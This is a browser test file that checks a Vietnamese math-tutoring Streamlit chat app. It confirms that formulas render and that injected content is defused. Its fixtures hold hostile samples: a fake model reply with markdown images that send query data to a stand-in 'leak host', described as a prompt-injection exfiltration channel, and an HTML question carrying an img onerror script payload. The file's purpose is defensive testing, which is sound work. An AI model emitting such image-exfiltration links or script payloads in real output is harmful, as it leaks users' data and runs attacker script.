"""The chat in a real browser: `streamlit run` driven by headless Chromium, formulas rendered by KaTeX, a screenshot to look at."""
from __future__ import annotations

import os
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Iterator
from urllib.parse import urlsplit

import pytest
from conftest import stop_process
from fake_ollama import FakeOllama, free_port
from ui_testing import ROOT, build_test_index, ui_env

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
ARTIFACTS = ROOT / "test-artifacts"
QUESTION = "Tích phân từ 0 đến 1 của x bình phương bằng bao nhiêu?"
# Images a prompt injection could use to send data out: none of them may be fetched.
LEAK_HOST = "img.example.invalid"
REPLY = (r"Theo công thức Newton–Leibniz [1], một nguyên hàm của \(x^2\) là \(\frac{x^3}{3}\), nên "
         r"$$\int_0^1 x^2\,dx = \frac{1}{3}$$"
         f" Xem ![đồ thị](http://{LEAK_HOST}/leak.png?q=answer) và ![hình][ref].\n\n[ref]: http://{LEAK_HOST}/ref.png")
HTML_QUESTION = ('<b>chữ đậm?</b><img src=x onerror="window.__xss = 1"> tích phân là gì '
                 f"![](http://{LEAK_HOST}/question.png?q=student)")
START_TIMEOUT_S = 90
ANSWER_TIMEOUT_MS = 90_000

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is missing: install Debian's chromium "
                       "(apt-get install --no-install-recommends chromium) to run the browser test"),
]


@pytest.fixture(scope="session")
def lesson_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_test_index(tmp_path_factory.getbasetemp() / "ui-index")


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeOllama]:
    with FakeOllama(reply=lambda messages, options: REPLY, token_delay_s=0.02) as server:
        yield server


def wait_healthy(url: str, process: subprocess.Popen[bytes], output: Path) -> None:
    deadline = time.monotonic() + START_TIMEOUT_S
    while time.monotonic() < deadline:
        if process.poll() is not None:
            pytest.fail(f"streamlit exited with {process.returncode}:\n{output.read_text(errors='replace')[-3000:]}")
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as response:
                if response.status == 200:
                    return
        except (urllib.error.URLError, OSError):
            pass
        time.sleep(0.5)
    pytest.fail(f"streamlit did not answer within {START_TIMEOUT_S} s:\n{output.read_text(errors='replace')[-3000:]}")


@pytest.fixture(scope="module")
def server(lesson_index: Path, fake: FakeOllama, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """`streamlit run ui/app.py` on a free port of 127.0.0.1, pointed at the test index and the fake Ollama."""
    folder = tmp_path_factory.mktemp("streamlit")
    env = {k: v for k, v in os.environ.items() if not k.startswith("VIMATH_") and k != "OLLAMA_HOST"}
    env.update(ui_env(lesson_index, f"sqlite:///{folder / 'log.db'}", fake.url), STREAMLIT_BROWSER_GATHER_USAGE_STATS="false")
    port, output = free_port(), folder / "streamlit.log"
    with output.open("wb") as sink:
        process = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", "ui/app.py", "--server.address", "127.0.0.1", "--server.port", str(port),
             "--server.headless", "true", "--server.fileWatcherType", "none", "--browser.gatherUsageStats", "false"],
            cwd=ROOT, env=env, stdout=sink, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, process, output)
        yield url
    finally:
        stop_process(process, 10)


def test_chat_in_chromium_renders_the_answer_formulas_and_sources(server: str) -> None:
    from playwright.sync_api import expect, sync_playwright

    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1300})
            requested: list[str] = []
            page.on("request", lambda request: requested.append(request.url))
            page.goto(server)
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=ANSWER_TIMEOUT_MS)
            box.fill(QUESTION)
            box.press("Enter")

            sources = page.get_by_test_id("stExpander").filter(has_text="Nguồn")
            sources.wait_for(timeout=ANSWER_TIMEOUT_MS)
            answer = page.get_by_test_id("stChatMessage").filter(has_text="Newton–Leibniz").last
            expect(answer.locator(".katex").first).to_be_visible()
            assert answer.locator(".katex").count() >= 3  # two inline formulas and the integral
            assert "\\(" not in answer.inner_text()
            page.wait_for_timeout(300)  # time for the browser to fetch an image, were one shown
            assert [u for u in requested if LEAK_HOST in u] == []
            assert f"[hình ảnh: {LEAK_HOST}/…]" in answer.inner_text() and answer.locator("img").count() == 0
            sources.get_by_text("Nguồn").click()
            expect(sources.locator(".katex").first).to_be_visible()
            page.wait_for_timeout(500)  # let the expander finish opening
            page.screenshot(path=str(ARTIFACTS / "chat.png"), full_page=True)

            box.fill(HTML_QUESTION)
            box.press("Enter")
            asked = page.get_by_test_id("stChatMessage").filter(has_text="tích phân là gì").first
            asked.wait_for(timeout=ANSWER_TIMEOUT_MS)
            expect(page.get_by_test_id("stExpander").filter(has_text="Nguồn")).to_have_count(2, timeout=ANSWER_TIMEOUT_MS)
            assert "<b>chữ đậm?</b>" in asked.inner_text()
            assert asked.locator("b, img[src='x']").count() == 0
            assert page.evaluate("window.__xss") is None
            page.wait_for_timeout(300)
            assert [u for u in requested if LEAK_HOST in u] == []
            assert f"[hình ảnh: {LEAK_HOST}/…]" in asked.inner_text()
            elsewhere = [u for u in requested if urlsplit(u).scheme in ("http", "https") and urlsplit(u).hostname != "127.0.0.1"]
            assert elsewhere == [], elsewhere
        finally:
            browser.close()
